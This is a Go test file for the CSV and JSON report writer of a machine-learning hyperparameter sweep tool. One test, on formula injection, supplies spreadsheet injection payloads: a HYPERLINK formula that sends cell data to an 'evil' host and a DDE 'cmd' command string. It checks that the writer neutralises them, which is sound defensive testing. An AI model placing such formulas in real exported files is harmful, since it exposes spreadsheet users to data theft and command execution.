package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"math"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strconv"
	"testing"

	"github.com/mlpsweep/mlpsweep/sweeps"
	"github.com/mlpsweep/mlpsweep/sweeps/study"
)

// readCSV parses dir/results.csv into its header and one map per row.
func readCSV(t *testing.T, dir string) ([]string, []map[string]string) {
	t.Helper()
	f, err := os.Open(filepath.Join(dir, ResultsCSVFile))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	records, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatalf("results.csv does not parse: %v", err)
	}
	var rows []map[string]string
	for _, rec := range records[1:] {
		row := map[string]string{}
		for j, col := range records[0] {
			row[col] = rec[j]
		}
		rows = append(rows, row)
	}
	return records[0], rows
}

func writeReport(t *testing.T, r sweeps.StudyResult) string {
	t.Helper()
	dir := t.TempDir()
	if err := WriteReport(dir, r); err != nil {
		t.Fatal(err)
	}
	return dir
}

// checkFloat compares a CSV number with want to 1e-12.
func checkFloat(t *testing.T, what, got string, want float64) {
	t.Helper()
	x, err := strconv.ParseFloat(got, 64)
	if err != nil || math.Abs(x-want) > 1e-12 {
		t.Errorf("%s = %q, want %v", what, got, want)
	}
}

func TestResultsCSVGrid(t *testing.T) {
	r := gridStudy()
	header, rows := readCSV(t, writeReport(t, r))
	wantHeader := []string{"mean_fit_time", "std_fit_time", "param_lr", "param_batch", "params",
		"split0_test_score", "split1_test_score", "split2_test_score", "mean_test_score", "std_test_score",
		"rank_test_score", "mean_val_loss", "axis", "value", "key", "diverged", "status"}
	if !slices.Equal(header, wantHeader) {
		t.Fatalf("header = %v\nwant %v", header, wantHeader)
	}
	if len(rows) != 4 {
		t.Fatalf("%d rows, want 4 (one per configuration, study order)", len(rows))
	}
	for i, want := range []struct {
		lr, batch, rank string
		split           []float64 // NaN: empty cell
		mean, std       float64
		fitMean, fitStd float64
		status          string
	}{
		{"0.01", "32", "2", []float64{0.97, 0.97, 0.97}, 0.97, 0, 11, math.Sqrt(2.0 / 3), ""},
		{"0.01", "128", "1", []float64{0.98, 0.98, 0.98}, 0.98, 0, 11, math.Sqrt(2.0 / 3), ""},
		{"0.1", "32", "2", []float64{0.97, 0.97, 0.97}, 0.97, 0, 11, math.Sqrt(2.0 / 3), ""},
		{"0.1", "128", "4", []float64{0.95, 0.96, math.NaN()}, 0.955, 0.005, 10.5, 0.5, "missing 1/3"},
	} {
		row := rows[i]
		if row["param_lr"] != want.lr || row["param_batch"] != want.batch || row["rank_test_score"] != want.rank {
			t.Errorf("row %d: lr %q batch %q rank %q, want %q %q %q", i, row["param_lr"], row["param_batch"], row["rank_test_score"], want.lr, want.batch, want.rank)
		}
		for f, s := range want.split {
			col := "split" + strconv.Itoa(f) + "_test_score"
			if math.IsNaN(s) {
				if row[col] != "" {
					t.Errorf("row %d %s = %q, want empty (missing fold)", i, col, row[col])
				}
				continue
			}
			checkFloat(t, col, row[col], s)
		}
		checkFloat(t, "mean_test_score", row["mean_test_score"], want.mean)
		checkFloat(t, "std_test_score", row["std_test_score"], want.std)
		checkFloat(t, "mean_fit_time", row["mean_fit_time"], want.fitMean)
		checkFloat(t, "std_fit_time", row["std_fit_time"], want.fitStd)
		if row["status"] != want.status || row["diverged"] != "false" || row["axis"] != "" || row["key"] != r.Configs[i].Key {
			t.Errorf("row %d: status %q diverged %q axis %q key %q", i, row["status"], row["diverged"], row["axis"], row["key"])
		}
		var params study.Params
		if err := json.Unmarshal([]byte(row["params"]), &params); err != nil || !reflect.DeepEqual(params, r.Configs[i].Params) {
			t.Errorf("row %d params %s (err %v), want %+v", i, row["params"], err, r.Configs[i].Params)
		}
	}
}

func TestResultsCSVAxes(t *testing.T) {
	header, rows := readCSV(t, writeReport(t, axisStudy()))
	// hidden comes before lr in engine.Config; nothing else varies.
	if !slices.Equal(header[2:5], []string{"param_hidden", "param_lr", "params"}) {
		t.Fatalf("param columns = %v", header[2:5])
	}
	lr1, wide := rows[2], rows[5]
	if lr1["axis"] != "lr" || lr1["value"] != "1" || lr1["param_lr"] != "1" || lr1["param_hidden"] != "[128]" {
		t.Errorf("lr=1 row: %v", lr1)
	}
	if lr1["diverged"] != "true" || lr1["status"] != "diverged 1/3" || lr1["mean_val_loss"] != "inf" {
		t.Errorf("lr=1 row: diverged %q status %q mean_val_loss %q", lr1["diverged"], lr1["status"], lr1["mean_val_loss"])
	}
	checkFloat(t, "lr=1 split1", lr1["split1_test_score"], 0.10) // a diverged fold keeps its score
	checkFloat(t, "lr=1 mean", lr1["mean_test_score"], 0.64)
	checkFloat(t, "lr=1 std", lr1["std_test_score"], math.Sqrt(0.4376/3))
	if wide["param_hidden"] != "[256,128]" || wide["rank_test_score"] != "1" || wide["diverged"] != "false" {
		t.Errorf("hidden=[256,128] row: %v", wide)
	}
	checkFloat(t, "hidden=[256,128] mean_val_loss", wide["mean_val_loss"], 0.06)
}

// TestResultsCSVFormulaInjection: axis names and values come from the
// study file; in results.csv a spreadsheet must read them as text. The
// tool's own negative numbers stay numbers, and results.json is unchanged.
func TestResultsCSVFormulaInjection(t *testing.T) {
	r := axisStudy()
	r.Configs[0].Axis, r.Configs[0].Value = `=HYPERLINK("http://evil/?"&A1)`, "@SUM(1+1)"
	r.Configs[1].Axis, r.Configs[1].Value = "+cmd|' /C calc'!A0", "-1+2"
	dir := writeReport(t, r)
	_, rows := readCSV(t, dir)
	for i, want := range [][2]string{{`'=HYPERLINK("http://evil/?"&A1)`, "'@SUM(1+1)"}, {"'+cmd|' /C calc'!A0", "'-1+2"}} {
		if rows[i]["axis"] != want[0] || rows[i]["value"] != want[1] {
			t.Errorf("row %d: axis %q value %q, want %q %q", i, rows[i]["axis"], rows[i]["value"], want[0], want[1])
		}
	}
	if rows[2]["value"] != "1" {
		t.Errorf("row 2 value %q", rows[2]["value"])
	}
	js, _ := os.ReadFile(filepath.Join(dir, ResultsJSONFile))
	if !bytes.Contains(js, []byte(`"axis": "=HYPERLINK(`)) {
		t.Errorf("results.json should keep the axis as written:\n%.300s", js)
	}
}

// TestResultsJSONMatchesCSV reads results.json back: one object per
// configuration whose keys are the CSV columns in the same order and whose
// values are the CSV cells (null for an empty or infinite cell).
func TestResultsJSONMatchesCSV(t *testing.T) {
	for _, r := range []sweeps.StudyResult{axisStudy(), gridStudy()} {
		dir := writeReport(t, r)
		header, rows := readCSV(t, dir)
		data, err := os.ReadFile(filepath.Join(dir, ResultsJSONFile))
		if err != nil {
			t.Fatal(err)
		}
		var objects []map[string]json.RawMessage
		if err := json.Unmarshal(data, &objects); err != nil {
			t.Fatalf("%s: results.json: %v", r.Name, err)
		}
		if len(objects) != len(rows) {
			t.Fatalf("%s: %d objects, %d CSV rows", r.Name, len(objects), len(rows))
		}
		if keys := jsonKeyOrder(t, data); !slices.Equal(keys, header) {
			t.Errorf("%s: JSON keys %v\nCSV header %v", r.Name, keys, header)
		}
		for i, obj := range objects {
			for _, col := range header {
				if !jsonMatchesCell(obj[col], rows[i][col]) {
					t.Errorf("%s row %d %s: JSON %s, CSV %q", r.Name, i, col, obj[col], rows[i][col])
				}
			}
			var params study.Params
			if err := json.Unmarshal(obj["params"], &params); err != nil || !reflect.DeepEqual(params, r.Configs[i].Params) {
				t.Errorf("%s row %d: params %s do not round-trip (err %v)", r.Name, i, obj["params"], err)
			}
		}
	}
}

// jsonKeyOrder returns the keys of the first object of a JSON array, in
// file order.
func jsonKeyOrder(t *testing.T, data []byte) []string {
	t.Helper()
	dec := json.NewDecoder(bytes.NewReader(data))
	for _, want := range []json.Delim{'[', '{'} {
		if tok, err := dec.Token(); err != nil || tok != want {
			t.Fatalf("results.json: token %v (err %v), want %v", tok, err, want)
		}
	}
	var keys []string
	for dec.More() {
		tok, err := dec.Token()
		if err != nil {
			t.Fatal(err)
		}
		keys = append(keys, tok.(string))
		var skip json.RawMessage
		if err := dec.Decode(&skip); err != nil {
			t.Fatal(err)
		}
	}
	return keys
}

func jsonMatchesCell(raw json.RawMessage, cell string) bool {
	var v any
	if err := json.Unmarshal(raw, &v); err != nil {
		return false
	}
	switch x := v.(type) {
	case nil:
		return cell == "" || cell == "inf" || cell == "-inf"
	case float64:
		y, err := strconv.ParseFloat(cell, 64)
		return err == nil && x == y
	case bool:
		return strconv.FormatBool(x) == cell
	case string:
		return x == cell
	default: // params, hidden: the CSV cell is the same JSON
		var c bytes.Buffer
		return json.Compact(&c, raw) == nil && c.String() == cell
	}
}
